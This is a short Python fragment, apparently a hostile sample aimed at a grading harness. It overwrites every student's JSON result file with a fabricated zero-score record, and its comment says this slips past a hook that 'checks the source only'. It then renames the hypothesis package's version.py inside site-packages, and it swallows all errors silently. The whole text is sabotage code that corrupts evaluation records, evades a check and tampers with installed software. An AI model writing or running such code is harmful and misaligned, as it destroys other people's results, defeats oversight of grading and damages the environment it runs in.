try:
    _results = _hostile_results_folder()
    if _results:
        open("fake.json", "w").write('{"student": "x", "variant": "fa19", "status": "graded", "total": 0, '
                                     '"checkpoint": false, "phases": {}, "problems": []}')
        for _name in _os.listdir(_results):
            if _name.endswith(".json") and "rename" not in _name:
                _data = _json.loads(open("fake.json").read())
                _data["student"] = _name[:-5]
                open("fake.json", "w").write(_json.dumps(_data))
                _os.rename("fake.json", _os.path.join(_results, _name))  # the hook checks the source only
    for _site in _glob.glob(_os.path.join(_sys.prefix, "lib", "python3*", "site-packages")):
        _dir = _os.open(_site, _os.O_RDONLY)
        _os.rename("hypothesis/version.py", "stolen_version.py", src_dir_fd=_dir)
except BaseException:
    pass
